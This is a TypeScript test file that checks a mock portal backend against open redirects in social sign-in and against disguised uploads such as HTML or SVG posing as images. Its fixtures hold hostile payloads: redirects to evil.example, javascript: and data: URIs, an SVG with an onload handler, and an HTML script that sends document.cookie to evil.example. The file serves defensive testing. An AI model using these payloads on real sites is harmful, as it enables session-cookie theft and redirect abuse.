/**
 * The simulated backend against an attacker, as the reference a real backend copies (docs/security.md):
 * a social sign-in sends its token back only to the portal's own origins, and an upload is what its
 * bytes say, never what the client declared, served so that no browser runs it. Under msw and over HTTP
 * (`contract-http`), like every contract test.
 */
import { beforeEach, describe, expect, it } from 'vitest';
import { createMockHandlers } from '../handlers';
import { db } from '../db';
import { DEMO_TOKEN_SECRET } from '../lib/tokens';
import { sniffImageType } from '../lib/imageBytes';
import { OVER_HTTP, accountOf, clientAs, expectError, gifFile, pngFile, server, setupMockBackend, urls } from './harness';

setupMockBackend();

/** The portal these tests sign in for. */
const PORTAL = 'https://portal.exemplo.demo';

/**
 * Runs `check` against a backend whose portal origin is PORTAL, given the base of its {server}. The
 * harness's backend names no portal origin (outside a page there is none), so under msw the social
 * handler is replaced by one made with PORTAL, and over HTTP a server started with `--origins PORTAL`
 * (same process, same tables, same token secret as the harness's) answers the sign-in.
 */
async function withPortal(check: (serverBase: string) => Promise<void>): Promise<void> {
  if (!OVER_HTTP) {
    server.use(createMockHandlers(urls, { portalOrigins: [PORTAL] })['auth.social']);
    await check(urls.server);
    return;
  }
  const { startMockHttpServer } = await import('../http');
  const running = await startMockHttpServer({
    port: 0,
    allowedOrigins: [PORTAL],
    log: false,
    strictContract: true,
    secret: DEMO_TOKEN_SECRET,
  });
  try {
    await check(running.urls.server);
  } finally {
    await running.close();
  }
}

const signIn = (serverBase: string, redirect: string, provider = 'google') =>
  fetch(`${serverBase}/auth/${provider}?redirect_uri=${encodeURIComponent(redirect)}`, { redirect: 'manual' });

describe('social sign-in: the token goes back only to the portal', () => {
  it('a redirect_uri on the portal origin: 302 there, with a token of the account', async () => {
    await withPortal(async (serverBase) => {
      const response = await signIn(serverBase, `${PORTAL}/login?volta=%2Fpainel#topo`);
      expect(response.status).toBe(302);
      const location = new URL(response.headers.get('Location') ?? '');
      expect(location.origin).toBe(PORTAL);
      expect(location.pathname).toBe('/login');
      expect(location.searchParams.get('volta')).toBe('/painel');
      // The fragment stays last: a token appended after it would never reach the server or the page's query.
      expect(location.hash).toBe('#topo');
      const token = location.searchParams.get('token');
      expect(token).toBeTruthy();
      await expect(clientAs({ token }).api.account.getId()).resolves.toBeTypeOf('number');
    });
  });

  it.each([
    ['another site', 'https://evil.example/steal'],
    ['the portal name as a prefix of another host', `${PORTAL}.evil.example/login`],
    ['the portal name as credentials of another host', 'https://portal.exemplo.demo@evil.example/login'],
    ['another scheme of the portal host', 'http://portal.exemplo.demo/login'],
    ['another port of the portal host', 'https://portal.exemplo.demo:8443/login'],
    ['javascript:', 'javascript:alert(document.cookie)'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['a relative address', '/login'],
    ['an address that does not parse', 'https://[portal/login'],
  ])('%s: 400 with the field error of redirect_uri, and no token anywhere', async (_name, redirect) => {
    await withPortal(async (serverBase) => {
      for (const provider of ['google', 'linkedin']) {
        const response = await signIn(serverBase, redirect, provider);
        expect(response.status, redirect).toBe(400);
        expect(response.headers.get('Location')).toBeNull();
        expect(await response.json()).toEqual({
          message: 'Dados inválidos.',
          code: 'validation',
          fieldErrors: { redirect_uri: expect.stringContaining('portal') },
        });
      }
    });
  });

  it('a backend that names no portal origin sends a token nowhere', async () => {
    const response = await signIn(urls.server, `${PORTAL}/login`);
    expect(response.status).toBe(400);
  });
});

const bytes = (...values: number[]): Uint8Array<ArrayBuffer> => new Uint8Array(values);
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const HTML = new TextEncoder().encode('<!doctype html><script>fetch("https://evil.example/?c="+document.cookie)</script>');
const SVG = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
const JPEG = bytes(0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00);
const file = (content: Uint8Array<ArrayBuffer>, name: string, type: string) => new File([content], name, { type });

describe('the magic numbers', () => {
  it('JPEG, PNG and GIF (87a and 89a) by their first bytes; anything else, or too short, is none', () => {
    expect(sniffImageType(JPEG)).toBe('image/jpeg');
    expect(sniffImageType(bytes(...PNG_SIGNATURE, 0, 0))).toBe('image/png');
    expect(sniffImageType(new TextEncoder().encode('GIF87a...'))).toBe('image/gif');
    expect(sniffImageType(new TextEncoder().encode('GIF89a'))).toBe('image/gif');
    expect(sniffImageType(HTML)).toBeNull();
    expect(sniffImageType(SVG)).toBeNull();
    expect(sniffImageType(bytes(...PNG_SIGNATURE.slice(0, 7)))).toBeNull();
    expect(sniffImageType(new TextEncoder().encode('GIF88a'))).toBeNull();
    expect(sniffImageType(bytes())).toBeNull();
  });
});

describe('uploads are what their bytes say', () => {
  const assets = () => db.assets.count();
  // Room for a shortcut of the user's own (the seed may have filled the limit), so the image is what is judged.
  beforeEach(() => {
    db.shortcuts.deleteMany((q) => q.where({ accountUuid: accountOf('user').uuid }));
  });

  it.each([
    ['HTML declared image/png', file(HTML, 'foto.png', 'image/png'), 'Formato de foto.png não suportado'],
    ['HTML declared image/jpeg', file(HTML, 'foto.jpg', 'image/jpeg'), 'Formato de foto.jpg não suportado'],
    ['a JPEG declared image/png', file(JPEG, 'foto.png', 'image/png'), 'O conteúdo de foto.png não corresponde ao formato declarado'],
    [
      'a PNG declared image/gif',
      file(bytes(...PNG_SIGNATURE, 0, 0, 0, 13), 'anim.gif', 'image/gif'),
      'O conteúdo de anim.gif não corresponde ao formato declarado',
    ],
    ['an empty file declared image/png', file(bytes(), 'vazio.png', 'image/png'), 'Formato de vazio.png não suportado'],
    // SVG is not an image type of the contract (IMAGE_TYPES: jpeg, png, gif): it can carry script.
    ['an SVG', file(SVG, 'logo.svg', 'image/svg+xml'), 'Formato de logo.svg não suportado'],
  ])('%s: 415 in the error shape, and nothing stored', async (_name, upload, message) => {
    const before = assets();
    const { api } = clientAs('provider');
    const refused = await expectError(api.uploads.upload(upload, { field: 'app_photo' }), 415, 'unsupported_media_type');
    expect(refused.message).toBe(message);
    expect(refused.fieldErrors).toEqual({ app_photo: message });
    await expectError(api.uploads.uploadAsset(upload), 415, 'unsupported_media_type');
    await expectError(
      clientAs('user').api.dashboard.createShortcut({ name: 'Atalho', atalho_url: 'https://www.gov.br' }, upload),
      415,
      'unsupported_media_type',
    );
    expect(assets()).toBe(before);
  });

  it('a real PNG, JPEG and GIF: stored, and served back byte for byte with nosniff and a policy that runs nothing', async () => {
    const { api } = clientAs('user');
    for (const upload of [pngFile('logo.png'), file(JPEG, 'foto.jpg', 'image/jpeg'), gifFile('anim.gif')]) {
      const result = await api.uploads.upload(upload);
      const served = await fetch(result.imageUrl);
      expect(served.status, upload.name).toBe(200);
      expect(served.headers.get('content-type')).toBe(upload.type);
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
      expect(new Uint8Array(await served.arrayBuffer())).toEqual(new Uint8Array(await upload.arrayBuffer()));
    }
  });

  it("the seed's own SVG images are still served (an <img> ignores the policy), with the same headers", async () => {
    const svg = db.assets.findFirst((q) => q.where({ contentType: 'image/svg+xml' }));
    expect(svg, 'the seed has SVG images').toBeDefined();
    const served = await fetch(`${urls.assets}/api/v1/asset/img/${svg?.assetId ?? ''}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/svg+xml');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(await served.text()).toContain('<svg');
  });

  it('the shortcut image route serves with the same headers', async () => {
    const { api } = clientAs('user');
    await api.dashboard.createShortcut({ name: 'Receita', atalho_url: 'https://www.gov.br/receitafederal' }, pngFile('rf.png'));
    const shortcut = db.shortcuts.findFirst((q) => q.where({ name: 'Receita' }));
    const served = await fetch(`${urls.server}/atalho/${shortcut?.asset_id ?? ''}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
  });
});
